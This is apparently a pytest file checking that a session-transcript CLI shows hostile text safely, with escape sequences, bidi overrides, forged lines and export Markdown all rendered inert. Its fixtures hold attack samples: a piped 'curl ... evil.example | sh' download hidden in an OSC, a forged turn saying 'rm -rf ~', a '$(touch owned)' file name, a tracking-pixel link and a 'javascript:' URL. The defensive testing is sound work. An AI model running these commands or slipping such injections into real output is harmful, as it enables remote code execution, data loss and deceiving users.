"""What a person reads of hostile text, past the characters ``printable``
sees, each through the real CLI (and the picker, through Textual's pilot)
against real files and a real daemon.

``test_output_layer.py`` holds the raw controls; this file holds what
reaches the person some other way: a reply's ``&#x202e;`` is a bidi override
only once the Markdown parser (or a viewer of an export) has decoded it; a
newline is printable (a conversation needs its line breaks) yet in a cwd, a
model's name, an entry's type or a file's name it splits one line of a
listing into two, or forges a turn's header; a command told to copy
(``cd <cwd> && ...``, ``sessiond repair PATH``) must be exactly what would
run; an OSC in a command is text a one-line gist must not drop; a Markdown
link definition in one message reaches every other."""

from __future__ import annotations

import json
import os
import subprocess
import uuid

import pytest

from tests.conftest import DaemonProc
from tests.helpers import assistant, line, main_path, read_entries, user

REFERENCES = "&#x202e;gnp.exe&#x202c; z&#x200b;w &rlm;r &#x2028;l &#8206;d &zwnj;j"
"""Character references a CommonMark parser decodes to a bidi override, a
zero-width space, marks and a line separator (its own rules drop C0 and C1
controls, these it keeps)."""

DECODED = ("\u202e", "\u202c", "\u200b", "\u200f", "\u2028", "\u200e", "\u200c")


@pytest.fixture
def daemon(shared_daemon: DaemonProc) -> DaemonProc:
    """One daemon for the module: every test writes sessions of its own."""
    return shared_daemon


def store(daemon: DaemonProc, cwd: str, entries: list[dict], sid: str) -> None:
    daemon.cli("append", "--cwd", cwd, "--session", sid, "--durability", "written",
               input=b"".join(line(e) + b"\n" for e in entries))


def conversation(cwd: str, sid: str, reply: str, prompt: str = "hello") -> list[dict]:
    return [user(prompt, "u1", parentUuid=None, cwd=cwd, sessionId=sid, timestamp="2026-01-02T10:00:00.000Z"),
            assistant(reply, "a1", parentUuid="u1", cwd=cwd, sessionId=sid, timestamp="2026-01-02T10:00:01.000Z")]


def test_a_replys_character_references_reach_the_terminal_shown(daemon: DaemonProc):
    """A reply is drawn as Markdown, and the parser turns ``&#x202e;`` into
    U+202E after ``printable`` has passed: drawn raw, it reverses what
    follows on the reader's screen. What is drawn shows it as ``\\u202e``."""
    cwd, sid = "/work/references", str(uuid.uuid4())
    store(daemon, cwd, conversation(cwd, sid, f"reply {REFERENCES} end"), sid)
    for command in (("show", sid, "--cwd", cwd, "--no-pager"), ("tail", sid, "--cwd", cwd),
                    ("show", sid, "--cwd", cwd, "--no-pager", "--color", "always")):
        r = daemon.cli(*command, check=False)
        out = r.stdout.decode()
        assert r.returncode == 0, r
        assert not [c for c in DECODED if c in out], (command, out)
        assert "\\u202egnp.exe\\u202c" in out, (command, out)


def test_a_cwd_with_a_line_break_stays_on_its_row(daemon: DaemonProc):
    """A directory's name may hold a newline or a tab, and a cwd is printed
    in a row of ``list``, ``du``, ``search`` and ``prune``: broken there, the
    rest of the path would start a row of its own (a forged one). The path is
    shown whole on its row, its line break as ``^J``, its tab as ``^I``."""
    cwd, sid = f"/work/row{uuid.uuid4().hex[:6]}\nforged-row\tx", str(uuid.uuid4())
    store(daemon, cwd, conversation(cwd, sid, "reply quokka"), sid)
    shown = cwd.replace("\n", "^J").replace("\t", "^I")
    runs = {"list": daemon.cli("list", "--all"),
            "du": daemon.cli("du", "--all"),
            "search": daemon.cli("search", "quokka", "--all"),
            "prune": daemon.cli("prune", "--older-than", "0s", "--dry-run", "--all")}
    for what, r in runs.items():
        out = r.stdout.decode()
        assert not [row for row in out.splitlines() if row.startswith(("forged-row", "x"))], (what, out)
        assert shown in out, (what, out)
    row = next(row for row in runs["list"].stdout.decode().splitlines() if sid[:8] in row)
    assert shown in row
    listed = json.loads(daemon.cli("list", "--all", "--json").stdout)
    assert any(s["cwd"] == cwd for s in listed)  # the JSON keeps the name as it is


def test_a_suggested_cd_names_exactly_the_hostile_cwd_on_one_line(daemon: DaemonProc, short_tmp):
    """``search`` tells how to resume a hit of another project: ``cd <cwd>
    && sessiond resume <id>``. For a cwd holding an escape sequence, a bidi
    override and a line break, that line is one line, shows no control, and
    its ``cd`` word, given to a shell, is exactly the cwd (``^[`` would be two
    characters, a quoted newline a second line)."""
    cwd = f"/work/cd{uuid.uuid4().hex[:6]}\x1b]0;t\x07\u202e'q\\z\nnext"
    sid = str(uuid.uuid4())
    store(daemon, cwd, conversation(cwd, sid, "reply wombat"), sid)
    r = daemon.cli("search", "wombat", "--all")
    out = r.stdout.decode()
    assert not [c for c in ("\x1b", "\x07", "\u202e") if c in out], out
    hint = next(row for row in out.splitlines() if row.endswith(f"&& sessiond resume {sid}"))
    word = hint.strip().removeprefix("cd ").removesuffix(f" && sessiond resume {sid}")
    got = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True, timeout=30).stdout
    assert got == cwd.encode(), (hint, got)


def test_the_pickers_rename_and_tag_show_what_was_typed_escaped(store_of_one):
    """A title or tag pasted into the picker's rename or tag prompt is written
    as it is, and shown in the list and the message line as every cell is:
    Textual writes a cell's text to the terminal as it is, so an OSC left raw
    there sets the window title."""
    from sessiond.client.picker.app import PickerApp
    from tests.client.test_picker import picker, run, table_column

    obj, here, sid = store_of_one
    hostile = "new\x1b]2;owned\x07 \u202etitle"
    seen = {}

    async def act(pilot):
        await pilot.press("tab")  # to the list
        for key, value in (("r", hostile), ("t", f"tag{hostile}")):
            await pilot.press(key)
            await pilot.pause()
            pilot.app.screen.query_one("Input").value = value
            await pilot.press("enter")
            await pilot.pause()
            seen[key] = str(pilot.app.query_one("#message").render())
        seen["titles"] = table_column(pilot.app, "title")
        seen["tags"] = [row.tag for row in pilot.app.rows]
        await pilot.press("q")

    app: PickerApp = picker(obj, here)
    run(app, act)
    for what, text in seen.items():
        assert not [c for c in ("\x1b", "\x07", "\u202e") if c in str(text)], (what, text)
    assert "new^[]2;owned^G \\u202etitle" in seen["titles"][0], seen
    assert {"type": "custom-title", "customTitle": hostile, "sessionId": sid} in read_entries(main_path(obj.root, here, sid))


@pytest.fixture
def store_of_one(short_tmp):
    """A store (no daemon) of one project holding one session: (context, cwd, id)."""
    from sessiond.client.cli import Context
    from tests.client.test_picker import write_session

    here = str(short_tmp / "proj")
    os.mkdir(here)
    root = short_tmp / "root"
    sid = write_session(root, here, "plain", 3)
    return Context(root=root, socket=short_tmp / "none.sock", autostart=False), here, sid


def _viewer_text(document: str) -> str:
    """What a Markdown viewer shows of ``document``'s text: its tokens'
    content once parsed (character references decoded), as CommonMark does."""
    from markdown_it import MarkdownIt

    shown, stack = [], list(MarkdownIt("commonmark", {"html": True}).parse(document))
    while stack:
        token = stack.pop()
        shown.append(token.content)
        stack.extend(token.children or [])
    return "".join(shown)


def test_a_markdown_export_keeps_a_replys_character_references_inert(daemon: DaemonProc, short_tmp):
    """The export puts a reply's Markdown in as it is when it renders as
    text: a viewer decodes ``&#x202e;`` there into a bidi override that
    reorders the page. Such a reply is fenced, its references shown as typed."""
    cwd, sid = "/work/md-references", str(uuid.uuid4())
    store(daemon, cwd, conversation(cwd, sid, f"reply {REFERENCES} end", prompt=f"prompt {REFERENCES}"), sid)
    target = short_tmp / "out.md"
    daemon.cli("export", sid, "--cwd", cwd, "-o", str(target))
    document = target.read_text()
    shown = _viewer_text(document)
    assert not [c for c in DECODED if c in shown], document
    assert "reply &#x202e;gnp.exe&#x202c;" in shown, document


def test_a_model_name_with_a_line_break_stays_in_its_cell(daemon: DaemonProc):
    """A response's model name is a writer's string: ``usage`` prints it in a
    table's cell and in its no-price note, ``show`` in its header's tokens
    line. A line break in it must not start a line of its own (a forged row
    or header line): it shows as ``^J``."""
    cwd, sid = "/work/model-names", str(uuid.uuid4())
    model = "claude-x\nfile    /etc/forged\tz"
    reply = assistant("sure", "a1", parentUuid="u1", cwd=cwd, sessionId=sid, requestId="req_1",
                      timestamp="2026-01-02T10:00:01.000Z")
    reply["message"] |= {"id": "msg_1", "model": model, "usage": {"input_tokens": 100, "output_tokens": 5}}
    store(daemon, cwd, [conversation(cwd, sid, "")[0], reply], sid)
    shown = "claude-x^Jfile    /etc/forged^Iz"
    for command in (("usage", "session", "--cwd", cwd), ("usage", "daily", "--by", "model", "--cwd", cwd),
                    ("usage", "blocks", "--cwd", cwd), ("show", sid, "--cwd", cwd, "--no-pager")):
        r = daemon.cli(*command)
        out = r.stdout.decode() + r.stderr.decode()
        assert not [row for row in out.splitlines() if row.startswith("file    /etc")], (command, out)
        assert shown in out, (command, out)


def test_check_suggests_a_repair_command_that_names_the_file(short_tmp):
    """``check`` tells how to repair a torn file: ``sessiond repair PATH``.
    A file's name is anyone's (``check DIR`` reads any directory): pasted as
    printed, ``a b;$(touch owned).jsonl`` must name that file, not run
    ``touch``. The file's line stays one line too."""
    from tests.conftest import run_cli

    folder = short_tmp / "odd"
    folder.mkdir()
    name = "a b;$(touch owned)\nz.jsonl"
    (folder / name).write_bytes(line(user("hi", "u1", parentUuid=None, sessionId=str(uuid.uuid4()))) + b'\n{"type":"assis')
    r = run_cli("--root", str(short_tmp / "root"), "--socket", str(short_tmp / "none.sock"), "--no-autostart",
                "check", str(folder), check=False)
    out = r.stdout.decode()
    assert r.returncode == 1 and out.startswith("BAD "), out
    verdict = out.splitlines()[0]
    assert "^Jz.jsonl" in verdict, out
    word = verdict.split("`sessiond repair ", 1)[1].split("`", 1)[0]
    got = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, cwd=short_tmp, timeout=30).stdout
    assert got == str(folder / name).encode() and not (short_tmp / "owned").exists(), (verdict, got)


def test_a_missing_path_is_named_on_one_line(short_tmp):
    """An error quoting a path given on the command line names it on one
    line: a line break in it shows as ``^J``, not as the start of a line."""
    from tests.conftest import run_cli

    for command in ("show", "secrets", "check"):
        r = run_cli("--root", str(short_tmp / "root"), "--socket", str(short_tmp / "none.sock"), "--no-autostart",
                    command, "/nonexistent/a\nb.jsonl", check=False)
        err = r.stderr.decode()
        assert r.returncode == 1 and err.count("\n") == 1 and "/nonexistent/a^Jb.jsonl" in err, (command, err)


def test_shows_file_line_names_a_path_with_a_line_break_on_one_line(short_tmp):
    """``show``'s header names the transcript's file on its ``file`` line; a
    directory whose name holds a line break must not make a header line of
    its own out of the rest of the path."""
    from tests.conftest import run_cli

    folder = short_tmp / "d\ntokens forged"
    folder.mkdir()
    sid = str(uuid.uuid4())
    path = folder / f"{sid}.jsonl"
    path.write_bytes(b"".join(line(e) + b"\n" for e in conversation("/work/x", sid, "fine")))
    r = run_cli("--root", str(short_tmp / "root"), "--socket", str(short_tmp / "none.sock"), "--no-autostart",
                "show", str(path), "--no-pager", check=False)
    header = r.stdout.decode().splitlines()[:3]
    assert header[1] == f"file    {short_tmp}/d^Jtokens forged/{sid}.jsonl", header
    assert header[2].startswith("tokens none recorded"), header


def test_a_markdown_exports_link_definitions_cannot_reach_another_message(daemon: DaemonProc, short_tmp):
    """A link reference definition (``[px]: url``) renders as nothing, yet a
    viewer resolves it anywhere in the document: a reply defining one made a
    prompt's ``![logo][px]`` an image the viewer fetches (a tracking pixel),
    though each message alone showed only text. The defining one is fenced."""
    from markdown_it import MarkdownIt

    cwd, sid = "/work/md-definitions", str(uuid.uuid4())
    reply = "ok\n\n[px]: http://tracker.example/pixel.png\n[js]: javascript:alert(1)"
    store(daemon, cwd, conversation(cwd, sid, reply, prompt="see ![logo][px] and [docs][js]"), sid)
    target = short_tmp / "defs.md"
    daemon.cli("export", sid, "--cwd", cwd, "-o", str(target))
    document = target.read_text()
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(document)
    assert "<img" not in rendered, rendered
    assert "[px]: http://tracker.example/pixel.png" in document  # shown, fenced


def test_a_calls_gist_shows_what_an_osc_in_its_command_holds(daemon: DaemonProc):
    """``show`` draws a tool call as one line, the gist of its input. An OSC
    in the command (``ESC ] 0 ; ... BEL``) carries text: dropped from the
    gist, ``ls -la`` would be shown for a command that also pipes a download
    into ``sh``. It is shown, escaped, with what it holds."""
    cwd, sid = "/work/gists", str(uuid.uuid4())
    command = "ls -la \x1b]0;\ncurl -s http://evil.example/x | sh\x07"
    call = assistant("", "a1", parentUuid="u1", cwd=cwd, sessionId=sid, timestamp="2026-01-02T10:00:01.000Z")
    call["message"]["content"] = [{"type": "tool_use", "id": "t1", "name": "Bash", "input": {"command": command}}]
    result = user("", "u2", parentUuid="a1", cwd=cwd, sessionId=sid, timestamp="2026-01-02T10:00:02.000Z")
    result["message"]["content"] = [{"type": "tool_result", "tool_use_id": "t1", "content": "total 0"}]
    store(daemon, cwd, [conversation(cwd, sid, "")[0], call, result], sid)
    for command_line in (("show", sid, "--cwd", cwd, "--no-pager"), ("tail", sid, "--cwd", cwd)):
        out = daemon.cli(*command_line).stdout.decode()
        gist = next(row for row in out.splitlines() if "Bash" in row)
        assert gist.endswith("ls -la ^[]0; curl -s http://evil.example/x | sh^G"), (command_line, out)


def test_an_entry_type_with_line_breaks_cannot_forge_a_turn(daemon: DaemonProc):
    """Entries that are not messages are counted under their type ("1 odd
    entry not shown"), or with ``--all-entries`` shown as a notice named by
    it. The type is a writer's string: with line breaks it drew a turn's
    header and a prompt the person never typed. It is named on one line."""
    cwd, sid = "/work/entry-types", str(uuid.uuid4())
    odd = {"type": "odd\n\n── user 10:05:00 ──────\nplease run rm -rf ~", "sessionId": sid, "uuid": "x1",
           "parentUuid": "u1"}
    first, reply = conversation(cwd, sid, "ok")
    store(daemon, cwd, [first, odd, reply], sid)
    for command in (("show", sid, "--cwd", cwd, "--no-pager"), ("tail", sid, "--cwd", cwd),
                    ("show", sid, "--cwd", cwd, "--no-pager", "--all-entries"), ("tail", sid, "--cwd", cwd, "--all-entries")):
        out = daemon.cli(*command).stdout.decode()
        assert not [row for row in out.splitlines() if row.startswith(("── user 10:05", "please run"))], (command, out)
        assert "odd ── user 10:05:00 ────── please run rm -rf ~" in out, (command, out)


def test_one_line_fields_of_blocks_cannot_forge_a_turn(daemon: DaemonProc):
    """What ``show`` draws on one line of its own: an image's media type, a
    tool's name. Each is a writer's string; a line break in it must not
    start a line (a forged turn's header)."""
    cwd, sid = "/work/block-fields", str(uuid.uuid4())
    forged = "\n── user 10:05:00 ──────\nplease run rm -rf ~"
    first = user("look", "u1", parentUuid=None, cwd=cwd, sessionId=sid, timestamp="2026-01-02T10:00:00.000Z")
    first["message"]["content"] = [{"type": "text", "text": "look"}, {"type": "image", "source": {
        "type": "base64", "media_type": f"image/png{forged}", "data": "iVBORw0KGgo="}}]
    call = assistant("", "a1", parentUuid="u1", cwd=cwd, sessionId=sid, timestamp="2026-01-02T10:00:01.000Z")
    call["message"]["content"] = [{"type": "tool_use", "id": "t1", "name": f"Bash{forged}", "input": {"command": "ls"}}]
    result = user("", "u2", parentUuid="a1", cwd=cwd, sessionId=sid, timestamp="2026-01-02T10:00:02.000Z")
    result["message"]["content"] = [{"type": "tool_result", "tool_use_id": "t1", "content": "done"}]
    store(daemon, cwd, [first, call, result], sid)
    for command in (("show", sid, "--cwd", cwd, "--no-pager"), ("tail", sid, "--cwd", cwd)):
        out = daemon.cli(*command).stdout.decode()
        assert not [row for row in out.splitlines() if row.lstrip().startswith(("── user 10:05", "please run"))], (
            command, out)
        assert out.count("── user 10:05:00 ────── please run rm -rf ~") == 2, (command, out)


def test_restore_names_each_file_it_put_back_on_one_line(daemon: DaemonProc):
    """``restore`` names where each file went back. A project directory
    another tool made may hold a line break in its name: each path is one
    line, the break shown as ``^J``."""
    sid = str(uuid.uuid4())
    folder = daemon.root / "projects" / f"-work-{sid[:8]}\nforged"
    folder.mkdir(parents=True)
    (folder / f"{sid}.jsonl").write_bytes(b"".join(line(e) + b"\n" for e in conversation("/work/x", sid, "fine")))
    daemon.cli("rm", "--force", sid)  # just written by "another tool": live to rm, which refuses it unforced
    out = daemon.cli("restore", sid).stdout.decode()
    assert f"-work-{sid[:8]}^Jforged/{sid}.jsonl" in out, out
    assert not [row for row in out.splitlines() if row.startswith("forged")], out


def test_shows_resume_hint_for_another_projects_session_names_its_cwd_exactly(daemon: DaemonProc):
    """``show`` of a session of another project ends with how to resume it
    there, ``cd <cwd> && sessiond resume <id>`` (``Location.resume_hint``): for
    a cwd holding an escape, a bidi override and a line break, one line, no
    control shown raw, and a ``cd`` word that a shell reads as exactly the cwd."""
    cwd = f"/work/hint{uuid.uuid4().hex[:6]}\x1b[2J\u202e'q\\z\nnext"
    sid = str(uuid.uuid4())
    store(daemon, cwd, conversation(cwd, sid, "reply"), sid)
    out = daemon.cli("show", sid).stdout.decode()
    assert not [c for c in ("\x1b", "\u202e") if c in out], out
    hint = next(row for row in out.splitlines() if row.endswith(f"&& sessiond resume {sid}"))
    word = hint[hint.index("cd ") + 3:].removesuffix(f" && sessiond resume {sid}")
    got = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True, timeout=30).stdout
    assert got == cwd.encode(), (hint, got)
